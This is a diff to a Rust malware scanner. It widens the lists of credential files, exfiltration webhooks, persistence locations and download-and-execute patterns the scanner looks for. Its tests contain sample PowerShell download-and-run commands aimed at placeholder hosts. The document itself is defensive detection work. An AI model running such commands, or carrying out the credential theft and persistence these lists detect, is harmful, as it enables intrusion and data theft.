@@ -36,6 +36,9 @@ pub(crate) const CREDENTIALS: &[(&str, &str)] = &[
     ("_authToken", ".npmrc"),
     (".env", ".env files"),
     (".vault-token", "vault token"),
+    ("gh auth token", "GitHub CLI token"),
+    ("gh/hosts.yml", "GitHub CLI token"),
+    ("Local Storage", "browser store"),
 ];
 
 /// Credential patterns too common in configuration loading to buy a parse.
@@ -64,8 +67,10 @@ pub(crate) const SECRET_VARS: &[&str] = &[
 /// Endpoints that receive stolen data: webhooks, paste and file-drop sites,
 /// interaction catchers.
 pub(crate) const EXFIL_HOSTS: &[(&str, &str)] = &[
-    ("discord.com/api/webhooks", "Discord webhook"),
-    ("discordapp.com/api/webhooks", "Discord webhook"),
+    // By path shape, whatever the host (canary/ptb subdomains, mirrors).
+    ("/api/webhooks/", "Discord webhook"),
+    ("/sendDocument", "Telegram bot"),
+    ("/sendMessage?chat_id", "Telegram bot"),
     ("api.telegram.org/bot", "Telegram bot"),
     ("hooks.slack.com", "Slack webhook"),
     ("webhook.site", "webhook.site"),
@@ -98,6 +103,7 @@ pub(crate) const PERSISTENCE: &[(&str, Kind, &str)] = &[
     ("LaunchDaemons", Kind::Persistence, "launch agent"),
     ("CurrentVersion\\Run", Kind::Persistence, "registry run key"),
     ("schtasks", Kind::Persistence, "scheduled task"),
+    ("authorized_keys", Kind::Persistence, "SSH authorized_keys"),
     ("sitecustomize.py", Kind::StartupWrite, "sitecustomize.py"),
     ("usercustomize.py", Kind::StartupWrite, "usercustomize.py"),
     (
@@ -112,6 +118,14 @@ pub(crate) const PERSISTENCE: &[(&str, Kind, &str)] = &[
         ".vscode/tasks.json",
         Kind::AgentConfig,
         ".vscode/tasks.json",
+    ),
+    // A task that runs when the folder is opened, however the path is built.
+    ("folderOpen", Kind::AgentConfig, ".vscode/tasks.json"),
+    ("mcp.json", Kind::AgentConfig, "MCP server entry"),
+    (
+        "claude_desktop_config.json",
+        Kind::AgentConfig,
+        "MCP server entry",
     ),
 ];
 
@@ -207,13 +221,42 @@ pub fn classify_text(text: &str, out: &mut Vec<(Kind, &'static str)>) {
     classify_shell(text, out);
 }
 
+/// Downloaders on a command line: POSIX tools and PowerShell idioms.
+pub(crate) const FETCHERS: &[&str] = &[
+    "curl ",
+    "wget ",
+    "iwr ",
+    "irm ",
+    "Invoke-WebRequest",
+    "Invoke-RestMethod",
+    "DownloadString",
+    "DownloadFile",
+    "Start-BitsTransfer",
+    "certutil -urlcache",
+];
+
+/// What runs a download: a shell it is piped into, or PowerShell evaluating
+/// or starting it.
+const SHELL_SINKS: &[&str] = &[
+    "| sh",
+    "|sh",
+    "| bash",
+    "|bash",
+    "| node",
+    "| python",
+    "| iex",
+    "|iex",
+    "IEX (",
+    "IEX(",
+    "iex (",
+    "Invoke-Expression",
+    "Start-Process",
+];
+
 /// Shell-level patterns inside a string or an npm script.
 pub fn classify_shell(text: &str, out: &mut Vec<(Kind, &'static str)>) {
-    let fetch = text.contains("curl ") || text.contains("wget ") || text.contains("iwr ");
-    let shell_sink = [
-        "| sh", "|sh", "| bash", "|bash", "| node", "| python", "| iex",
-    ];
-    if fetch && shell_sink.iter().any(|s| text.contains(s)) {
+    let fetch = FETCHERS.iter().any(|f| has_command(text, f));
+    if fetch && SHELL_SINKS.iter().any(|s| text.contains(s)) {
         out.push((Kind::PipeToShell, "download piped to a shell"));
     } else if fetch {
         out.push((Kind::Download, "curl/wget"));
@@ -221,6 +264,32 @@ pub fn classify_shell(text: &str, out: &mut Vec<(Kind, &'static str)>) {
     if text.contains("chmod +x") || text.contains("chmod 7") || text.contains("chmod 0o7") {
         out.push((Kind::Chmod, "chmod +x"));
     }
+}
+
+/// `word` in `text` where a command starts: at the beginning or after a
+/// space, pipe, `;`, `&`, `(`, quote, `/` or `.` (a .NET method such as
+/// `.DownloadString`), so `confirm ` is not `irm `.
+pub fn has_command(text: &str, word: &str) -> bool {
+    text.match_indices(word).any(|(i, _)| {
+        text[..i].chars().next_back().is_none_or(|c| {
+            matches!(
+                c,
+                ' ' | '\t'
+                    | '\n'
+                    | '|'
+                    | ';'
+                    | '&'
+                    | '('
+                    | '"'
+                    | '\''
+                    | '`'
+                    | '/'
+                    | '.'
+                    | '$'
+                    | '{'
+            )
+        })
+    })
 }
 
 /// `pat` in `text`, where a pattern that is a bare dotted name (`.ssh`,
@@ -296,24 +365,6 @@ pub fn is_secret_var(name: &str) -> bool {
         || (name.starts_with("AWS_") && (name.contains("SECRET") || name.contains("KEY")))
 }
 
-/// The first string literal of `args` decoded as base64, when it is one
-/// (bounded: payloads over 1 MiB are not unpacked).
-pub fn decode_base64_literal(args: &str) -> Option<Vec<u8>> {
-    use base64::Engine;
-    let start = args.find(['"', '\''])?;
-    let q = args[start..].chars().next()?;
-    let body = &args[start + 1..];
-    let end = body.find(q)?;
-    let lit: String = body[..end].chars().filter(|c| !c.is_whitespace()).collect();
-    if lit.len() < 16 || lit.len() > (1 << 20) {
-        return None;
-    }
-    let cfg = base64::engine::GeneralPurposeConfig::new()
-        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
-    let engine = base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, cfg);
-    engine.decode(lit).ok()
-}
-
 /// Shannon entropy in bits per byte.
 pub fn entropy(bytes: &[u8]) -> f64 {
     if bytes.is_empty() {
@@ -372,6 +423,30 @@ mod tests {
         assert!(kinds("http://203.0.113.9/x").contains(&Kind::HardcodedIp));
         assert!(!kinds("http://127.0.0.1:8080/").contains(&Kind::HardcodedIp));
         assert!(!kinds("http://1.2.3/").contains(&Kind::HardcodedIp));
+        // PowerShell download-and-run, and words that only contain a fetcher.
+        assert!(
+            kinds("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')\"")
+                .contains(&Kind::PipeToShell)
+        );
+        assert!(
+            kinds("Invoke-WebRequest -Uri https://x.invalid/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe")
+                .contains(&Kind::PipeToShell)
+        );
+        assert!(kinds("please confirm the upgrade").is_empty());
+    }
+
+    #[test]
+    fn endpoints_by_path_shape() {
+        assert!(
+            kinds("https://canary.discord.invalid/api/webhooks/1/x").contains(&Kind::ExfilEndpoint)
+        );
+        assert!(
+            kinds("https://api.telegram.invalid/bot1:A/sendDocument")
+                .contains(&Kind::ExfilEndpoint)
+        );
+        assert!(kinds("gh auth token").contains(&Kind::CredentialFile));
+        assert!(kinds("authorized_keys").contains(&Kind::Persistence));
+        assert!(kinds("folderOpen").contains(&Kind::AgentConfig));
     }
 
     #[test]
